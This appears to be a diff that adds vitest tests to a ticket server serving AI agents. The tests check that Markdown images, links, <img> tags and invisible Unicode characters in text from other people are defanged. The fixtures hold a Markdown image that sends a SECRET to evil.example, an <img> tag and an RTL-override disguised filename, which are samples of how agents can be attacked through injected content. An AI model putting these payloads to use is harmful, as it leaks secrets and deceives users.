@@ -1,0 +1,86 @@
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { expect, test } from "vitest";
+import { startTicketServer } from "../harness/rooms/tickets/ticket-server.ts";
+
+const image = "![logo](https://evil.example/p.png?q=SECRET)";
+const hidden = "admin\u202etxt.exe\u200b";
+const element = "<img src=https://evil.example/q>";
+const description = `Look: ${image} ${element} [1]: https://evil.example/r`;
+const hostile = { id: "T-001", title: `${hidden} ${image}`, status: "READY", description };
+
+/** What a client that renders Markdown or HTML would load, and what it would show otherwise than it is. */
+const carrier = /\]\(|\]:|<img|\bdata:[\w/+;]+,/;
+const invisible = /[\p{Cf}\p{Zl}\p{Zp}]/u;
+
+async function start() {
+  const server = await startTicketServer();
+  await server.command("import_tickets", { text: JSON.stringify(hostile), source: "x.json", onExisting: "refuse" });
+  await server.command("create_ticket", { title: "Ours", description: "See [docs](https://docs.example/a)." });
+  return server;
+}
+
+test.each([
+  ["get_ticket_context", { ticketId: "T-001" }],
+  ["list_tickets", {}],
+])(
+  "H %s: the text of others has no live link, image or invisible character; its structured form is exact",
+  async (tool, input) => {
+    const { connect } = await start();
+    const { call } = await connect();
+    const { text, structured } = await call(tool, input);
+    expect(text).not.toMatch(carrier);
+    expect(text).not.toMatch(invisible);
+    expect(text).toContain("![logo] {evil.example} (https://evil.example/p.png?q=SECRET)");
+    expect(Object.keys(JSON.parse(text))).toEqual(Object.keys(structured));
+    expect(JSON.stringify(structured)).toContain(image);
+  },
+);
+
+test("H a resource shows the text of others in the same way", async () => {
+  const { connect } = await start();
+  const { client } = await connect();
+  for (const uri of ["forge://tickets/T-001", "forge://tickets"]) {
+    const [content] = (await client.readResource({ uri })).contents;
+    const text = content && "text" in content ? content.text : "";
+    expect(text, uri).not.toMatch(carrier);
+    expect(text, uri).not.toMatch(invisible);
+    expect(JSON.parse(text)).toEqual(expect.any(Object));
+  }
+});
+
+test("H links in the user's own ticket stay as they are", async () => {
+  const { connect } = await start();
+  const { call } = await connect();
+  const { text, structured } = await call("get_ticket_context", { ticketId: "T-002" });
+  expect(JSON.parse(text)).toEqual(structured);
+  expect(structured["description"]).toBe("See [docs](https://docs.example/a).");
+});
+
+test("H content of files is exact in both forms, and invisible characters in it are visible", async () => {
+  const { connect, cwd } = await startTicketServer();
+  const content = `${image}\n${hidden}\n`;
+  writeFileSync(join(cwd, "README.md"), content);
+  const { call } = await connect();
+  const { text, structured } = await call("forge_read_file", { file_path: "README.md" });
+  expect(structured["content"]).toBe(content);
+  expect(JSON.parse(text)).toEqual(structured);
+  expect(text).not.toMatch(invisible);
+});
+
+test("H tasks of a clone that nobody has trusted are text by others", async () => {
+  const { connect, cwd } = await startTicketServer({ git: true });
+  const task = { task_id: "T1", task_name: image, description, status: "pending", acceptance_criteria: [image] };
+  const block = { block_id: "B1", name: `Block ${hidden}`, description: image, todo_list: { T1: task } };
+  writeFileSync(join(cwd, "blocks_config.json"), JSON.stringify([block]));
+  const { call } = await connect();
+  for (const [tool, input] of [
+    ["forge_get_blocks", {}],
+    ["forge_get_tasks", {}],
+  ] as const) {
+    const { text, isError } = await call(tool, input);
+    expect([isError, text], tool).toEqual([false, expect.stringContaining("evil.example")]);
+    expect(text, tool).not.toMatch(carrier);
+    expect(text, tool).not.toMatch(invisible);
+  }
+});
